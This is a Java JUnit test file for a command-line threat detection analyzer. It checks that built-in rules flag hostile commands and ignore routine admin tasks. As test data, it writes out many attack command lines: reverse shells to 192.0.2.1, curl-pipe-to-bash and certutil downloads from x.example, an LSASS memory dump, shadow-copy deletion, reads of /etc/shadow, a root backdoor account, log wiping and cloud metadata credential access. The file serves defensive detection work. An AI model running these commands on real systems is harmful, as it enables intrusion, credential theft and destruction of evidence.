package dev.spoor.analyzer.cmdline;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.spoor.api.Severity;
import dev.spoor.api.data.Role;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class BuiltInRulesTest {
    @Test
    void allAreInForceAndSayWhatTheyAre() throws Exception {
        Loaded loaded = Loaded.of(true, null, Severity.INFO);
        assertEquals(List.of(), loaded.problems());
        List<Rule> rules = loaded.rules().rules();
        assertTrue(rules.size() >= 120, () -> "rules: " + rules.size());
        Set<String> seen = new HashSet<>();
        for (Rule rule : rules) {
            assertTrue(seen.add(rule.name()) && seen.add(rule.id()), rule::name);
            assertFalse(rule.techniques().isEmpty(), rule::name);
            assertTrue(rule.name().startsWith(rule.platform() == Platform.WINDOWS ? "win-" : "lnx-"), rule::name);
        }
        // a rule that none of its comparisons wakes would be asked of every row
        assertEquals(0, loaded.rules().always().length, () -> loaded.rules().toString());
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '\u00a6',
            quoteCharacter = '\u00a4',
            value = {
                "win-certutil-fetch ¦ c^ert\"util\" -url^cache -f http://x.example/a a.exe",
                "win-certutil-fetch ¦ cmd /c \"%WINDIR%\\system32\\certutil.exe /urlcache /f http://x.example/a\"",
                "win-lsass-dump ¦ rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full",
                "win-recovery-off ¦ cmd.exe /c vssadmin.exe delete shadows /all /quiet",
                "win-encoded-words ¦ powershell -e"
                        + " KABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwB4ACcAKQA=",
                "win-cmd-obfuscated ¦ cmd /c p^o^w^e^r^s^h^e^l^l -nop",
                "win-system-name ¦ C:\\Users\\Public\\svchost.exe -k netsvcs",
                "win-uac-registry ¦ reg add hkcu\\software\\classes\\ms-settings\\shell\\open\\command /d cmd.exe /f",
                "win-stream ¦ wscript C:\\Users\\x\\a.txt:evil.vbs",
                "lnx-reverse-shell-dev ¦ bash -c 'exec bash -i &>/dev/tcp/192.0.2.1/4444 <&1'",
                "lnx-reverse-shell-nc ¦ rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
                "lnx-reverse-shell-code ¦ python3 -c 'import"
                        + " socket,os,pty;s=socket.socket();s.connect((\"192.0.2.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
                "lnx-fetch-run ¦ curl -s http://x.example/i.sh | sudo bash",
                "lnx-decode-run ¦ echo aWQ= | base64 -d | sh",
                "lnx-obfuscated ¦ cat${IFS}/etc/passwd",
                "lnx-password-file ¦ c\\at /etc/sha''dow",
                "lnx-password-file ¦ sh -c c\\at$IFS/etc/sh\"\"adow",
                "lnx-setuid ¦ chmod u+s /tmp/bash",
                "lnx-history ¦ unset HISTFILE",
                "lnx-logs ¦ rm -rf /var/log/auth.log",
                "lnx-authorized-keys ¦ sh -c 'echo ssh-rsa AAAA >> /root/.ssh/authorized_keys'",
                "lnx-user-root ¦ useradd -o -u 0 -g 0 backdoor",
                "lnx-miner ¦ ./x -o stratum+tcp://pool.example:3333",
                "lnx-container-escape ¦ docker run --rm -v /:/mnt alpine chroot /mnt sh",
                "lnx-cloud-metadata ¦ curl http://169.254.169.254/latest/meta-data/iam/",
                "lnx-web-shell ¦ wget http://x.example/c -O /var/www/html/c.php",
            })
    void finds(String rule, String line) {
        Lines lines = new Lines().add(line).judge();
        assertTrue(lines.rules(0).contains(rule), () -> lines.rules(0) + " " + lines.values(0, "normalised"));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '\u00a6',
            quoteCharacter = '\u00a4',
            value = {
                "C:\\Windows\\System32\\svchost.exe ¦ C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p -s Schedule",
                "C:\\Windows\\System32\\certutil.exe ¦ certutil -hashfile setup.exe SHA256",
                "C:\\Program Files\\Google\\Chrome\\chrome.exe ¦ \"C:\\Program Files\\Google\\Chrome\\chrome.exe\""
                        + " --type=renderer --lang=en",
                "C:\\Windows\\System32\\rundll32.exe ¦ rundll32.exe C:\\Windows\\system32\\PcaSvc.dll,PcaPatchSdbTask",
                "C:\\Windows\\explorer.exe ¦ C:\\Windows\\explorer.exe",
                "C:\\Windows\\System32\\schtasks.exe ¦ schtasks /query /fo list",
                "C:\\Program Files\\Git\\cmd\\git.exe ¦ git status --porcelain",
                "/usr/bin/ls ¦ ls -la /home/nora",
                "/usr/bin/git ¦ git pull --rebase origin main",
                "/usr/sbin/sshd ¦ sshd: nora [priv]",
                "/usr/bin/dpkg ¦ dpkg --print-foreign-architectures",
                "/usr/sbin/cron ¦ /usr/sbin/CRON -f",
                "/bin/sh ¦ /bin/sh -c test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
                "/usr/bin/systemctl ¦ systemctl restart nginx.service",
                "/usr/bin/tar ¦ tar -czf /backup/home.tar.gz /home/nora",
                "/usr/bin/python3 ¦ /usr/bin/python3 /usr/lib/ubuntu-release-upgrader/check-new-release -q",
            })
    void isNotAlarmedByOrdinaryWork(String image, String line) {
        Lines lines = new Lines()
                .add(Map.of(Role.IMAGE, image, Role.COMMAND_LINE, line))
                .judge();
        assertFalse(
                lines.values(0, "severity").stream()
                        .anyMatch(severity -> Severity.valueOf(severity).atLeast(Severity.MEDIUM)),
                () -> lines.rules(0).toString());
    }

    @Test
    void aProgramThatWasRenamed() {
        Lines lines = new Lines()
                .add(Map.of(
                        Role.IMAGE, "C:\\Users\\x\\notes.exe",
                        Role.ORIGINAL_NAME, "PowerShell.EXE",
                        Role.COMMAND_LINE, "notes.exe -x"))
                .add(Map.of(
                        Role.IMAGE, "C:\\Windows\\System32\\cmd.exe",
                        Role.ORIGINAL_NAME, "Cmd.Exe",
                        Role.COMMAND_LINE, "cmd /c dir"))
                .add(Map.of(Role.IMAGE, "C:\\Windows\\System32\\cmd.exe", Role.COMMAND_LINE, "cmd /c dir"))
                .judge();
        assertTrue(lines.rules(0).contains("win-renamed"));
        assertEquals(Set.of(), lines.rules(1));
        assertEquals(Set.of(), lines.rules(2));
    }

    @Test
    void whatTriageTellsMakesRowsOnly() {
        Lines lines = new Lines()
                .add(Map.of(Role.HOST, "ws1", Role.COMMAND_LINE, "certutil -urlcache -f http://x.example/a a.exe"))
                .judge();
        assertEquals(Set.of("win-certutil-fetch"), lines.rules(0));
        assertEquals(List.of(), lines.findings());
    }

    @Test
    void theGravestRuleMakesTheFindingAndNamesTheOthers() {
        Lines lines = new Lines()
                .add(Map.of(
                        Role.HOST,
                        "web1",
                        Role.COMMAND_LINE,
                        "sh -c 'curl http://x.example/a | bash; unset HISTFILE; xmrig -o a'"))
                .judge();
        assertEquals(1, lines.findings().size());
        assertEquals("lnx-miner", lines.findings().get(0).rule());
        assertEquals(Severity.CRITICAL, lines.findings().get(0).severity());
        assertTrue(lines.findings().get(0).techniques().containsAll(List.of("T1496", "T1070.003")));
    }
}
